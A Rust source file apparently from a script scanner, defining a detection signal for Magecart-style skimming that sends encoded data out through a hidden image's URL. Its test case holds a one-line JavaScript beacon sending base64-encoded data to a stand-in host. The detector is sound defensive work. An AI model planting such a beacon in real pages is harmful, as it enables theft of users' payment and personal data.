//! `data-in-image-address`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "data-in-image-address",
    description: "The script sends encoded data out in the URL of a hidden image.",
    severity: Severity::Medium,
    classes: ClassSet::MAGECART,
    needs: &[one(&[Atom::Image]), one(&[Atom::Base64Encode, Atom::Encrypt]), one(&[Atom::AddressFromData])],
    within: 80,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &["var i=new Image;i.src='//c.example/p.gif?'+btoa(s)"],
        without: &["var i=new Image;i.src='//c.example/p.gif?u='+u"],
    },
};
